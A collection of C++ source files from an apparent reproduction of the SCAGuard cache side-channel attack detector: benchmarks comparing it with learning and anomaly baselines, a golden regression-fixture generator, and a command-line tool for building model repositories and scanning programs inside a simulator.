  config.sample_noise = noise;
  const eval::Dataset ds = eval::generate_dataset(config);

  Row row{};
  row.noise = noise;

  // E1-style split: first half train, second half test, per class.
  std::vector<trace::ExecutionProfile> train_profiles, benign_train;
  std::vector<Family> train_labels;
  std::vector<const eval::Sample*> test;
  auto split = [&](const std::vector<const eval::Sample*>& pool) {
    for (std::size_t i = 0; i < pool.size(); ++i) {
      if (i < pool.size() / 2) {
        train_profiles.push_back(pool[i]->profile);
        train_labels.push_back(pool[i]->family);
        if (pool[i]->family == Family::kBenign)
          benign_train.push_back(pool[i]->profile);
      } else {
        test.push_back(pool[i]);
      }
    }
  };
  for (Family f : {Family::kFlushReload, Family::kPrimeProbe,
                   Family::kSpectreFR, Family::kSpectrePP, Family::kBenign})
    split(ds.of_family(f));

  const std::vector<Family> attack_classes = {
      Family::kFlushReload, Family::kPrimeProbe, Family::kSpectreFR,
      Family::kSpectrePP};

  // Learners.
  Rng rng(17);
  for (auto [kind, slot] :
       {std::pair{baselines::LearnerKind::kSvmNw, &row.svm_f1},
        std::pair{baselines::LearnerKind::kKnnMlfm, &row.knn_f1}}) {
    baselines::LearningDetector d(kind);
    Rng train_rng = rng.split();
    d.train(train_profiles, train_labels, train_rng);
    eval::ConfusionMatrix cm;
    for (const eval::Sample* s : test) cm.add(s->family, d.classify(s->profile));
    *slot = cm.macro(attack_classes).f1;
  }

  // SCAGuard.
  {
    const core::Detector d = eval::make_scaguard(attack_classes);
    eval::ConfusionMatrix cm;
    for (const eval::Sample* s : test)
      cm.add(s->family, eval::scaguard_classify(d, *s));
    row.scaguard_f1 = cm.macro(attack_classes).f1;
  }

  // Anomaly detection rate over the attack test mass.
  {
    baselines::AnomalyDetector d;
    d.train(benign_train);
    std::size_t detected = 0, total = 0;
    for (const eval::Sample* s : test) {
      if (s->family == Family::kBenign) continue;
      detected += d.is_anomalous(s->profile);
      ++total;
    }
    row.anomaly_detect =
        total == 0 ? 0.0
                   : static_cast<double>(detected) / static_cast<double>(total);
  }
  return row;
}

}  // namespace

int main(int argc, char** argv) {
  const std::size_t n = bench::samples_from_argv(argc, argv, 60);
  std::printf("Noise sensitivity sweep (%zu samples per type per level)\n", n);

  Table t("\nNOISE SENSITIVITY: macro F1 on an E1-style task");
  t.header({"HPC noise", "SVM-NW F1", "KNN-MLFM F1", "SCAGUARD F1",
            "Anomaly detect rate"});
  for (double noise : {0.0, 0.05, 0.1, 0.2, 0.4}) {
    const Row row = evaluate_at(noise, n);
    t.row({pct(row.noise), pct(row.svm_f1), pct(row.knn_f1),
           pct(row.scaguard_f1), pct(row.anomaly_detect)});
    std::printf("  done: noise %.0f%%\n", noise * 100);
  }
  t.print();
  std::puts(
      "\nExpected shape: SCAGuard is flat across the sweep (its per-block\n"
      "HPC values are thresholded at nonzero and the address trace carries\n"
      "no noise), the margin-based SVM and the anomaly envelope degrade,\n"
      "while KNN tolerates symmetric jitter better (neighborhoods move\n"
      "together).");
  return 0;
}
