// Engineering microbenchmarks (google-benchmark): throughput of the
// building blocks — interpreter, cache hierarchy, CFG recovery, model
// construction, Levenshtein, and DTW scaling.
#include <benchmark/benchmark.h>

#include "attacks/registry.h"
#include "cache/hierarchy.h"
#include "cfg/cfg.h"
#include "core/detector.h"
#include "core/distance.h"
#include "core/dtw.h"
#include "cpu/interpreter.h"
#include "isa/builder.h"
#include "eval/experiments.h"
#include "support/rng.h"

using namespace scag;

namespace {

isa::Program fr_poc() {
  return attacks::poc_by_name("FR-IAIK").build(attacks::PocConfig{});
}

void BM_CacheHierarchyLoad(benchmark::State& state) {
  cache::CacheHierarchy h;
  Rng rng(1);
  std::vector<std::uint64_t> addrs;
  for (int i = 0; i < 4096; ++i) addrs.push_back(rng.below(1 << 22) & ~63ULL);
  std::size_t i = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        h.load(addrs[i++ & 4095], cache::Owner::kAttacker));
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}
BENCHMARK(BM_CacheHierarchyLoad);

void BM_InterpreterRunFrPoc(benchmark::State& state) {
  const isa::Program poc = fr_poc();
  for (auto _ : state) {
    cpu::Interpreter interp;
    benchmark::DoNotOptimize(interp.run(poc).cycles);
  }
}
BENCHMARK(BM_InterpreterRunFrPoc);

void BM_InterpreterThroughput(benchmark::State& state) {
  // Instructions-per-second over a tight arithmetic loop.
  const isa::Program p = [] {
    isa::ProgramBuilder b("tight");
    b.mov(isa::reg(isa::Reg::RCX), isa::imm(100000));
    b.label("loop");
    b.add(isa::reg(isa::Reg::RAX), isa::imm(3));
    b.xor_(isa::reg(isa::Reg::RAX), isa::reg(isa::Reg::RCX));
    b.dec(isa::reg(isa::Reg::RCX));
    b.jne("loop");
    b.hlt();
    return b.build();
  }();
  std::uint64_t retired = 0;
  for (auto _ : state) {
    cpu::Interpreter interp;
    retired = interp.run(p).profile.retired;
  }
  state.SetItemsProcessed(
      static_cast<std::int64_t>(state.iterations() * retired));
}
BENCHMARK(BM_InterpreterThroughput);

void BM_CfgBuild(benchmark::State& state) {
  const isa::Program poc = fr_poc();
  for (auto _ : state) {
    benchmark::DoNotOptimize(cfg::Cfg::build(poc).num_blocks());
  }
}
BENCHMARK(BM_CfgBuild);

void BM_ModelBuildFull(benchmark::State& state) {
  const isa::Program poc = fr_poc();
  const core::ModelBuilder builder(eval::experiment_model_config());
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        builder.build(poc, core::Family::kFlushReload).sequence.size());
  }
}
BENCHMARK(BM_ModelBuildFull);

void BM_Levenshtein(benchmark::State& state) {
  const std::size_t n = static_cast<std::size_t>(state.range(0));
  Rng rng(2);
  const std::vector<std::string> alphabet = {"mov reg, mem", "add reg, imm",
                                             "clflush mem", "jl mem"};
  std::vector<std::string> a, b;
  for (std::size_t i = 0; i < n; ++i) {
    a.push_back(rng.pick(alphabet));
    b.push_back(rng.pick(alphabet));
  }
  for (auto _ : state) benchmark::DoNotOptimize(core::levenshtein(a, b));
  state.SetComplexityN(static_cast<std::int64_t>(n));
}
BENCHMARK(BM_Levenshtein)->Range(8, 512)->Complexity(benchmark::oNSquared);

void BM_DtwSimilarity(benchmark::State& state) {
  // DTW over synthetic CST-BBS sequences of the given length.
  const std::size_t n = static_cast<std::size_t>(state.range(0));
  Rng rng(3);
  auto make_seq = [&rng, n] {
    core::CstBbs seq;
    const std::vector<std::string> tokens = {"flush", "time", "load", "store",
                                             "br"};
    for (std::size_t i = 0; i < n; ++i) {
      core::CstBbsElement e;
      for (std::uint64_t k = 0; k < 2 + rng.below(4); ++k)
        e.sem_tokens.push_back(rng.pick(tokens));
      e.cst.before = {0.0, 1.0};
      e.cst.after = {rng.uniform01() * 0.5, 1.0 - rng.uniform01() * 0.5};
      seq.push_back(e);
    }
    return seq;
  };
  const core::CstBbs a = make_seq(), b = make_seq();
  const core::DtwConfig config = core::calibrated_dtw_config();
  for (auto _ : state)
    benchmark::DoNotOptimize(core::similarity(a, b, config));
  state.SetComplexityN(static_cast<std::int64_t>(n));
}
BENCHMARK(BM_DtwSimilarity)->Range(4, 256)->Complexity(benchmark::oNSquared);

void BM_DetectorScan(benchmark::State& state) {
  const core::Detector d = eval::make_scaguard(
      {core::Family::kFlushReload, core::Family::kPrimeProbe,
       core::Family::kSpectreFR, core::Family::kSpectrePP});
  const isa::Program target =
      attacks::poc_by_name("ER-IAIK").build(attacks::PocConfig{});
  for (auto _ : state) {
    benchmark::DoNotOptimize(d.scan(target).best_score);
  }
}
BENCHMARK(BM_DetectorScan);

}  // namespace

BENCHMARK_MAIN();
