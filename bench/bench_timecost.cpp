// Section V "Time cost": wall-clock breakdown of one SCAGUARD detection.
// The paper reports 636.96s per detection on real hardware, dominated by
// runtime-information collection (56.6%) and file I/O (39.3%); learning
// methods take seconds because their models are pre-trained. We report the
// same breakdown for the simulated stack (absolute numbers are orders of
// magnitude smaller because the "hardware" is a simulator and there is no
// file I/O), plus detections-per-second throughput.
#include <chrono>
#include <cstdio>

#include "attacks/registry.h"
#include "baselines/learning.h"
#include "baselines/scadet.h"
#include "bench_common.h"
#include "cfg/cfg.h"
#include "eval/experiments.h"
#include "support/table.h"

using namespace scag;
using Clock = std::chrono::steady_clock;

namespace {

double ms_since(Clock::time_point start) {
  return std::chrono::duration<double, std::milli>(Clock::now() - start)
      .count();
}

}  // namespace

int main(int argc, char** argv) {
  const std::size_t repeats = bench::samples_from_argv(argc, argv, 200);
  const std::string json_path =
      argc > 2 ? argv[2] : "BENCH_timecost.json";
  bench::BenchTelemetry telemetry("timecost");
  telemetry.set_u64("detections", repeats);

  // Stage timing for SCAGuard on one representative target.
  const isa::Program target =
      attacks::poc_by_name("FR-Nepoche").build(attacks::PocConfig{});
  const core::Detector detector = eval::make_scaguard(
      {core::Family::kFlushReload, core::Family::kPrimeProbe,
       core::Family::kSpectreFR, core::Family::kSpectrePP});

  double t_run = 0, t_cfg = 0, t_model = 0, t_compare = 0;
  for (std::size_t i = 0; i < repeats; ++i) {
    auto t0 = Clock::now();
    const trace::ExecutionProfile profile = eval::profile_program(target, 0);
    t_run += ms_since(t0);

    t0 = Clock::now();
    const cfg::Cfg cfg = cfg::Cfg::build(target);
    t_cfg += ms_since(t0);

    t0 = Clock::now();
    const core::AttackModel model = detector.builder().build_from_profile(
        cfg, profile, core::Family::kBenign);
    t_model += ms_since(t0);

    t0 = Clock::now();
    (void)detector.scan(model.sequence);
    t_compare += ms_since(t0);
  }
  const double total = t_run + t_cfg + t_model + t_compare;

  std::printf("SECTION V: TIME COST (avg over %zu detections)\n\n", repeats);
  Table t;
  t.header({"Stage", "ms / detection", "Share", "Paper's share"});
  t.row({"Runtime collection (perf/PT substitute)",
         strfmt("%.3f", t_run / repeats), pct(t_run / total),
         "56.6% (collection)"});
  t.row({"CFG recovery (Angr substitute)", strfmt("%.3f", t_cfg / repeats),
         pct(t_cfg / total), "-"});
  t.row({"Attack behavior modeling", strfmt("%.3f", t_model / repeats),
         pct(t_model / total), "-"});
  t.row({"DTW similarity comparison", strfmt("%.3f", t_compare / repeats),
         pct(t_compare / total), "-"});
  t.separator();
  t.row({"Total", strfmt("%.3f", total / repeats), "100%",
         "636.96 s on real HW (39.3% file I/O)"});
  t.print();

  // Baseline costs for the same target.
  {
    const cfg::Cfg cfg = cfg::Cfg::build(target);
    const trace::ExecutionProfile profile = eval::profile_program(target, 0);
    auto t0 = Clock::now();
    for (std::size_t i = 0; i < repeats; ++i)
      (void)baselines::scadet_detect(cfg, profile);
    std::printf("\nSCADET rule matching: %.3f ms / detection\n",
                ms_since(t0) / repeats);
  }

  std::printf("Detections per second (SCAGuard, end to end): %.0f\n",
              1000.0 / (total / repeats));
  telemetry.set("collection_ms_per_detection", t_run / repeats);
  telemetry.set("cfg_ms_per_detection", t_cfg / repeats);
  telemetry.set("modeling_ms_per_detection", t_model / repeats);
  telemetry.set("comparison_ms_per_detection", t_compare / repeats);
  telemetry.set("total_ms_per_detection", total / repeats);
  telemetry.set("detections_per_sec", 1000.0 / (total / repeats));

  // Comparison-stage throughput through the batch-scan engine: the same
  // target sequence scanned `repeats` times, serial vs parallel vs pruned.
  {
    const cfg::Cfg cfg = cfg::Cfg::build(target);
    const trace::ExecutionProfile profile = eval::profile_program(target, 0);
    const core::AttackModel model = detector.builder().build_from_profile(
        cfg, profile, core::Family::kBenign);
    const std::vector<core::CstBbs> batch_targets(repeats, model.sequence);

    auto t0 = Clock::now();
    for (const core::CstBbs& s : batch_targets) (void)detector.scan(s);
    const double serial_ms = ms_since(t0);

    const core::BatchDetector parallel(detector, eval::experiment_batch_config());
    t0 = Clock::now();
    (void)parallel.scan_all(batch_targets);
    const double parallel_ms = ms_since(t0);

    core::BatchConfig pruned_config = eval::experiment_batch_config();
    pruned_config.prune = true;
    const core::BatchDetector pruned(detector, pruned_config);
    t0 = Clock::now();
    (void)pruned.scan_all(batch_targets);
    const double pruned_ms = ms_since(t0);
    const core::BatchStats stats = pruned.stats();

    std::printf(
        "\nBatch comparison stage (%zu scans x %zu models):\n"
        "  serial            %8.2f ms\n"
        "  batch, %zu thread(s) %8.2f ms (%.2fx)\n"
        "  batch + pruning   %8.2f ms (%.2fx; %llu/%llu pairs pruned)\n",
        batch_targets.size(), detector.repository_size(), serial_ms,
        parallel.threads(), parallel_ms, serial_ms / parallel_ms, pruned_ms,
        serial_ms / pruned_ms,
        static_cast<unsigned long long>(stats.lb_skipped +
                                        stats.early_abandoned),
        static_cast<unsigned long long>(stats.pairs));
    telemetry.set("batch_serial_ms", serial_ms);
    telemetry.set("batch_parallel_ms", parallel_ms);
    telemetry.set("batch_pruned_ms", pruned_ms);
    telemetry.set_u64("batch_threads", parallel.threads());
    telemetry.set_u64("batch_pairs", stats.pairs);
    telemetry.set_u64("batch_pairs_pruned",
                      stats.lb_skipped + stats.early_abandoned);
  }
  telemetry.write(json_path);

  std::puts(
      "\nNote: the paper's 636.96 s is dominated by collecting real HPC/PT\n"
      "data and file I/O between tools; in this reproduction the substrate\n"
      "is an in-process simulator, so the same pipeline runs in "
      "milliseconds.\nThe *relative* ordering matches: collection dominates, "
      "comparison is cheap.");
  return 0;
}
