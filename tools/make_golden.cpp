// Regenerates the golden end-to-end regression fixture consumed by
// tests/test_golden.cpp:
//
//   build/tools/make_golden tests/data
//
// writes <dir>/golden.repo (the canonical 4-model repository, in the
// serializer's exact-bits format), <dir>/golden_expected.txt (one line
// per scan target: name, verdict family, best score as IEEE-754 hex
// bits), and <dir>/golden_explain.txt (one explain block per target: all
// model scores, the best model's DTW warping path with the D_IS/D_CSP
// decomposition, and the verdict rationale — see
// golden::explain_fixture_block). Run it ONLY after an intentional
// behavior change, review the diff, and commit the regenerated files
// together with the change that caused it (see docs/testing-guide.md
// "Golden regression fixture").
#include <cstdio>
#include <fstream>
#include <iostream>
#include <string>
#include <vector>

#include "../tests/golden_corpus.h"
#include "core/family.h"
#include "core/serialize.h"

int main(int argc, char** argv) {
  using namespace scag;
  if (argc != 2) {
    std::cerr << "usage: make_golden <output-dir>   (e.g. tests/data)\n";
    return 2;
  }
  const std::string dir = argv[1];

  const core::Detector detector = golden::make_detector();
  core::save_models_to_file(dir + "/golden.repo", detector.repository());

  const std::string expected_path = dir + "/golden_expected.txt";
  std::ofstream out(expected_path + ".tmp");
  out << golden::kExpectedHeader << "\n";
  out << "# one line per target: name verdict best-score-ieee754-hex\n";
  out << "# regenerate (after an INTENTIONAL change, review the diff!):\n";
  out << "#   build/tools/make_golden tests/data\n";
  for (const golden::GoldenTarget& t : golden::make_targets()) {
    const core::Detection d = detector.scan(t.program);
    out << "target " << t.name << " " << core::family_abbrev(d.verdict)
        << " " << golden::score_bits(d.best_score) << "\n";
    std::cout << t.name << " -> " << core::family_abbrev(d.verdict)
              << " (score " << d.best_score << ")\n";
  }
  out << "end\n";
  if (!out.flush()) {
    std::cerr << "make_golden: write failed for " << expected_path << "\n";
    return 1;
  }
  out.close();
  if (std::rename((expected_path + ".tmp").c_str(), expected_path.c_str()) !=
      0) {
    std::cerr << "make_golden: rename failed for " << expected_path << "\n";
    return 1;
  }

  // The explain fixture: the same corpus, but pinning the full alignment
  // evidence (warping path, D_IS/D_CSP decomposition, rationale) of every
  // scan, bit-exactly. Rendering lives in golden::explain_fixture_block so
  // the test compares against the identical format.
  const std::string explain_path = dir + "/golden_explain.txt";
  std::ofstream eout(explain_path + ".tmp");
  eout << golden::kExplainHeader << "\n";
  eout << "# per target: verdict + every model's score/distance bits, the\n";
  eout << "# best model's warping path (pair <ti> <mi> bb <tb> <mb> with\n";
  eout << "# cost/is/csp IEEE-754 hex bits), and the rationale entries.\n";
  eout << "# regenerate (after an INTENTIONAL change, review the diff!):\n";
  eout << "#   build/tools/make_golden tests/data\n";
  for (const golden::GoldenTarget& t : golden::make_targets())
    eout << golden::explain_fixture_block(detector, t);
  eout << "end\n";
  if (!eout.flush()) {
    std::cerr << "make_golden: write failed for " << explain_path << "\n";
    return 1;
  }
  eout.close();
  if (std::rename((explain_path + ".tmp").c_str(), explain_path.c_str()) !=
      0) {
    std::cerr << "make_golden: rename failed for " << explain_path << "\n";
    return 1;
  }
  std::cout << "wrote " << dir << "/golden.repo, " << expected_path
            << " and " << explain_path << "\n";
  return 0;
}
