// scagctl — command-line front end for the SCAGuard library.
//
//   scagctl list                         known attack PoCs & benign templates
//   scagctl build-repo <out.repo>        model all PoCs into a repository file
//   scagctl repo pack <in.repo> <out.store>
//                                        compile a text repository into the
//                                        scag-store-v1 zero-copy binary form
//   scagctl repo unpack <in.store> <out.repo>
//                                        recover the text form (bit-exact)
//   scagctl repo info <in.store>         header, directory & checksum audit
//   scagctl scan [--stats[=out.json]] [--explain=out.json] [--no-compiled]
//                [--no-index] [--no-simd] <repo> <prog.s>...
//                                        scan assembly programs against a repo
//   scagctl explain [--json=out.json] <repo> <prog.s>...
//                                        full DTW alignment evidence per scan
//   scagctl model <prog.s>               print a program's CST-BBS model
//   scagctl demo <poc-name> [secret]     run a PoC and show the recovery
//   scagctl export <poc-name> [out.s]    dump a PoC as re-assemblable .s
//   scagctl cfg <prog.s>                 print a program's CFG as graphviz
//   scagctl metrics-demo                 smoke-run the metrics/tracing layer
//
// The deployment flow matches the paper's discussion section: build the
// repository once (offline), then scan untrusted programs before they are
// admitted to the cluster. `scan --stats` prints per-stage span timings and
// the pipeline counters (DTW pruning, DP cells, cache misses) after the
// report; `--stats=out.json` additionally writes them as JSON.
// `--no-compiled` is the escape hatch back to the string-based scan
// kernels; scores and verdicts are bit-identical either way (the compiled
// fast path of core/compiled.h is just faster). `--no-index` likewise
// disables the triage index + lower-bound cascade (core/scan_index.h) and
// scans the repository exhaustively in enrollment order; verdict, best
// score, and best-matching model are bit-identical either way — the
// cascade only skips comparisons it can prove are sub-best. `--no-simd`
// routes the DP stage back to the scalar row kernel instead of the
// anti-diagonal wavefront SIMD kernel (core/dtw_wavefront.h) — again
// bit-identical, an execution-strategy knob only (SCAG_SIMD=0 in the
// environment has the same effect).
//
// Observability (docs/observability.md): `explain` / `scan --explain=`
// emit ScanReports — the DTW warping path per model, each pair's
// D_IS/D_CSP cost decomposition, pruning attribution, and the verdict
// rationale. The global `--trace=out.json` flag enables span tracing for
// the whole command and writes a Chrome trace-event file loadable in
// Perfetto / chrome://tracing.
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <map>
#include <memory>
#include <optional>
#include <sstream>
#include <thread>

#include <filesystem>

#include "attacks/registry.h"
#include "benign/registry.h"
#include "cfg/cfg.h"
#include "core/batch_detector.h"
#include "core/detector.h"
#include "core/explain.h"
#include "core/serialize.h"
#include "core/store.h"
#include "cpu/interpreter.h"
#include "eval/experiments.h"
#include "isa/assembler.h"
#include "isa/export.h"
#include "support/events.h"
#include "support/failpoint.h"
#include "support/metrics.h"
#include "support/prometheus.h"
#include "support/rng.h"
#include "support/strings.h"
#include "support/table.h"
#include "support/trace.h"

using namespace scag;

namespace {

int usage() {
  std::fputs(
      "usage: scagctl [--failpoints=<spec>] [--trace=out.json]\n"
      "               [--journal=out.jsonl] <command>\n"
      "  scagctl list\n"
      "  scagctl build-repo <out.repo>\n"
      "  scagctl repo pack <in.repo> <out.store>\n"
      "  scagctl repo unpack <in.store> <out.repo>\n"
      "  scagctl repo info <in.store>\n"
      "  scagctl scan [--stats[=out.json]] [--explain=out.json]\n"
      "               [--prom=out.prom] [--no-compiled] [--no-index]\n"
      "               [--no-simd] <repo> <prog.s>...\n"
      "  scagctl explain [--json=out.json] <repo> <prog.s>...\n"
      "  scagctl stats serve --socket=<path> [--requests=<n>] [--warm]\n"
      "  scagctl stats get --socket=<path>\n"
      "  scagctl events tail [--once] [--type=<event-type>]\n"
      "               [--family=<family>] <journal.jsonl>\n"
      "  scagctl top [--once] [--interval=<ms>] [--iterations=<n>]\n"
      "               <snapshot.prom>\n"
      "  scagctl model <prog.s>\n"
      "  scagctl demo <poc-name> [secret 1..15]\n"
      "  scagctl export <poc-name> [out.s]\n"
      "  scagctl cfg <prog.s>\n"
      "  scagctl metrics-demo\n"
      "\n"
      "--failpoints arms deterministic fault injection, e.g.\n"
      "  --failpoints='serialize.load.read=throw;batch.scan_target=delay:50'\n"
      "(equivalent to exporting SCAG_FAILPOINTS; see docs/testing-guide.md).\n"
      "--trace records pipeline spans for the whole command and writes them\n"
      "as a Chrome trace-event file (open in Perfetto / chrome://tracing).\n"
      "--journal records the structured scan-event stream (scag-events-v1\n"
      "JSONL) for the whole command; a crash additionally dumps the\n"
      "flight-recorder tails to <out.jsonl>.crash (docs/observability.md).\n"
      "`repo pack` compiles a text repository into the scag-store-v1 binary\n"
      "form; `scan` and `explain` accept either format — stores are mmapped\n"
      "and scanned zero-copy (see docs/scan_architecture.md).\n"
      "`explain` and `scan --explain=` emit scan evidence reports;\n"
      "`scan --prom=` / `stats serve` expose the metrics registry in\n"
      "Prometheus 0.0.4 text; see docs/observability.md.\n",
      stderr);
  return 2;
}

/// Tmp + rename so a failed write never leaves truncated output behind.
/// Shared by --stats=, --trace=, --explain= and explain --json=.
void write_text_atomic(const char* path, const std::string& content) {
  const std::string tmp = std::string(path) + ".tmp";
  try {
    std::ofstream out(tmp, std::ios::trunc);
    if (!out) throw std::runtime_error("cannot open " + tmp);
    out << content;
    out.flush();
    if (!out.good()) throw std::runtime_error("write failed: " + tmp);
  } catch (...) {
    std::error_code ignored;
    std::filesystem::remove(tmp, ignored);
    throw;
  }
  std::error_code ec;
  std::filesystem::rename(tmp, path, ec);
  if (ec) {
    std::error_code ignored;
    std::filesystem::remove(tmp, ignored);
    throw std::runtime_error(std::string("cannot write ") + path + ": " +
                             ec.message());
  }
}

/// Combined metrics + span JSON document (the schema is documented in
/// docs/library-guide.md "Metrics & tracing").
std::string stats_json() {
  return "{\"metrics\":" + support::Registry::global().snapshot().to_json() +
         ",\"trace\":" + support::Tracer::global().to_json() + "}";
}

void print_stats(const char* json_path) {
  std::fputs("\n", stdout);
  std::fputs(support::Tracer::global().to_table().c_str(), stdout);
  std::fputs("\n", stdout);
  std::fputs(support::Registry::global().snapshot().to_table().c_str(),
             stdout);
  if (json_path != nullptr && json_path[0] != '\0') {
    write_text_atomic(json_path, stats_json() + "\n");
    std::printf("wrote stats JSON to %s\n", json_path);
  }
}

isa::Program load_asm(const char* path) {
  std::ifstream in(path);
  if (!in || support::fp::hit("scagctl.load_target"))
    throw std::runtime_error(std::string("cannot open ") + path);
  std::stringstream ss;
  ss << in.rdbuf();
  return isa::assemble(ss.str(), path);
}

int cmd_list() {
  Table attacks_table("Attack PoCs (Table II)");
  attacks_table.header({"Name", "Family"});
  for (const auto& spec : attacks::all_pocs())
    attacks_table.row({spec.name, std::string(core::family_name(spec.family))});
  attacks_table.print();

  Table benign_table("\nBenign templates (Table III)");
  benign_table.header({"Name", "Category"});
  for (const auto& spec : benign::all_benign_templates())
    benign_table.row({spec.name, spec.category});
  benign_table.print();
  return 0;
}

int cmd_build_repo(const char* out_path) {
  const core::ModelBuilder builder(eval::experiment_model_config());
  std::vector<core::AttackModel> models;
  for (const auto& spec : attacks::all_pocs()) {
    std::printf("modeling %s...\n", spec.name.c_str());
    models.push_back(
        builder.build(spec.build(attacks::PocConfig{}), spec.family));
  }
  core::save_models_to_file(out_path, models);
  std::printf("wrote %zu models to %s\n", models.size(), out_path);
  return 0;
}

core::Detector load_detector(const char* repo_path, bool use_compiled,
                             bool use_index = false, bool use_simd = true) {
  core::Detector detector(eval::experiment_model_config(),
                          eval::experiment_dtw_config(), eval::kThreshold);
  detector.set_use_compiled(use_compiled);
  detector.set_use_index(use_index);
  detector.set_use_simd(use_simd);
  if (core::is_store_file(repo_path)) {
    // scag-store-v1: mmap the compiled image and scan straight out of it —
    // no parse, no compile. Structural validation runs at open; checksums
    // are the `repo info` / `repo unpack` audit path, not the scan path.
    std::shared_ptr<const core::ModelStore> store =
        core::ModelStore::open(repo_path);
    const bool mapped = store->mapped();
    detector.attach_store(std::move(store));
    std::printf("repository: %zu models, threshold %s (scag-store-v1, %s)\n\n",
                detector.repository_size(), pct(detector.threshold()).c_str(),
                mapped ? "mmap" : "in-memory");
    return detector;
  }
  // Bounded retry for transient I/O faults; malformed repositories are
  // terminal on the first attempt (SerializeError is never retried).
  for (core::AttackModel& m :
       core::load_models_from_file(repo_path, core::RetryPolicy{}))
    detector.enroll(std::move(m));
  std::printf("repository: %zu models, threshold %s\n\n",
              detector.repository_size(), pct(detector.threshold()).c_str());
  return detector;
}

int cmd_repo_pack(const char* in_path, const char* out_path) {
  std::vector<core::AttackModel> models =
      core::load_models_from_file(in_path, core::RetryPolicy{});
  core::pack_store(out_path, models, eval::experiment_dtw_config().distance);
  const std::uintmax_t bytes = std::filesystem::file_size(out_path);
  std::printf("packed %zu models into %s (%llu bytes, scag-store-v1)\n",
              models.size(), out_path,
              static_cast<unsigned long long>(bytes));
  return 0;
}

int cmd_repo_unpack(const char* in_path, const char* out_path) {
  core::StoreOptions opts;
  opts.verify_checksums = true;
  const std::vector<core::AttackModel> models =
      core::ModelStore::open(in_path, opts)->unpack();
  core::save_models_to_file(out_path, models);
  std::printf("unpacked %zu models into %s\n", models.size(), out_path);
  return 0;
}

int cmd_repo_info(const char* path) {
  core::StoreOptions opts;
  opts.verify_checksums = true;
  const std::shared_ptr<const core::ModelStore> store =
      core::ModelStore::open(path, opts);
  const core::StoreInfo info = store->info();
  std::printf("%s: scag-store-v1 (version %u, %s)\n", path, info.version,
              store->mapped() ? "mmap" : "in-memory");
  std::printf("  alphabet        : %s\n",
              info.alphabet == core::IsAlphabet::kFullTokens
                  ? "full-tokens"
                  : "semantic-weighted");
  std::printf("  models          : %u in %zu family shard(s)\n",
              info.model_count, info.shard_count);
  std::printf("  unique elements : %u\n", info.unique_elements);
  std::printf("  tokens          : %u norm, %u sem\n", info.norm_tokens,
              info.sem_tokens);
  std::printf("  file bytes      : %llu\n",
              static_cast<unsigned long long>(info.file_bytes));

  Table sections("\nSections");
  sections.header({"Section", "Family", "Models", "Offset", "Bytes",
                   "Checksum"});
  for (const core::StoreSectionInfo& s : info.sections) {
    sections.row({s.name,
                  s.shard_family == core::Family::kCount
                      ? "-"
                      : std::string(core::family_name(s.shard_family)),
                  s.shard_family == core::Family::kCount
                      ? "-"
                      : std::to_string(s.shard_models),
                  std::to_string(s.offset), std::to_string(s.bytes),
                  strfmt("%016llx",
                         static_cast<unsigned long long>(s.checksum))});
  }
  sections.print();
  std::puts(info.checksums_verified ? "checksums OK"
                                    : "checksums not verified");
  return 0;
}

/// JSON array of ScanReports, one per scanned program (the file form of
/// `scan --explain=` and `explain --json=`).
std::string reports_json(const std::vector<core::ScanReport>& reports) {
  std::string out = "[";
  for (std::size_t i = 0; i < reports.size(); ++i) {
    if (i > 0) out += ",\n";
    out += reports[i].to_json();
  }
  out += "]\n";
  return out;
}

int cmd_scan(const char* repo_path, int nfiles, char** files,
             bool with_stats, const char* stats_json_path,
             const char* explain_json_path, const char* prom_path,
             bool use_compiled, bool use_index, bool use_simd) {
  if (with_stats) {
    support::set_metrics_enabled(true);
    support::Tracer::global().set_enabled(true);
    support::Tracer::global().clear();
    support::Registry::global().reset();
  }
  const core::Detector detector =
      load_detector(repo_path, use_compiled, use_index, use_simd);

  Table report("Scan report");
  report.header({"Program", "Verdict", "Best match", "Score"});
  int attacks_found = 0;
  std::vector<core::ScanReport> explained;
  for (int i = 0; i < nfiles; ++i) {
    const isa::Program program = load_asm(files[i]);
    const core::Detection det = detector.scan(program);
    attacks_found += det.is_attack();
    report.row({files[i],
                det.is_attack()
                    ? std::string(core::family_name(det.verdict))
                    : "benign",
                det.scores.empty() ? "-" : det.scores.front().model_name,
                pct(det.best_score)});
    // The report re-derives the same scores on the string kernels; its
    // verdict/best_score match `det` bit-exactly (tests/test_explain.cpp).
    if (explain_json_path != nullptr)
      explained.push_back(detector.explain(program, core::ExplainConfig{}));
  }
  report.print();
  if (explain_json_path != nullptr) {
    write_text_atomic(explain_json_path, reports_json(explained));
    std::printf("wrote %zu explain report(s) to %s\n", explained.size(),
                explain_json_path);
  }
  if (with_stats) print_stats(stats_json_path);
  if (prom_path != nullptr) {
    // File twin of `stats serve`: the same 0.0.4 exposition text, written
    // once after the scan (`scagctl top` consumes it). Sync the journal's
    // accounting first so its health series are current in the snapshot.
    support::events::EventJournal::global().sync_registry_counters();
    write_text_atomic(prom_path,
                      support::prom::to_prometheus_text(
                          support::Registry::global().snapshot()));
    std::printf("wrote Prometheus snapshot to %s\n", prom_path);
  }
  return attacks_found > 0 ? 1 : 0;  // nonzero exit if anything was flagged
}

/// Full scan evidence per program: verdict rationale, per-model DTW
/// alignment summary, pruning attribution (core/explain.h). Exit 0 on
/// success even when attacks are found — this is an audit view of a scan,
/// not the admission gate itself.
int cmd_explain(const char* repo_path, int nfiles, char** files,
                const char* json_path) {
  const core::Detector detector = load_detector(repo_path, true);
  std::vector<core::ScanReport> reports;
  reports.reserve(static_cast<std::size_t>(nfiles));
  for (int i = 0; i < nfiles; ++i) {
    const core::ScanReport report =
        detector.explain(load_asm(files[i]), core::ExplainConfig{});
    std::fputs(report.to_table().c_str(), stdout);
    if (i + 1 < nfiles) std::fputs("\n", stdout);
    reports.push_back(std::move(report));
  }
  if (json_path != nullptr) {
    write_text_atomic(json_path, reports_json(reports));
    std::printf("wrote %zu explain report(s) to %s\n", reports.size(),
                json_path);
  }
  return 0;
}

/// Self-contained smoke path for the metrics/tracing layer: exercises the
/// full pipeline (assemble is skipped — programs come from the builder
/// DSL) on a tiny repository and prints the span table, the metric tables,
/// and the combined JSON document.
int cmd_metrics_demo() {
  support::set_metrics_enabled(true);
  support::Tracer::global().set_enabled(true);
  support::Tracer::global().clear();
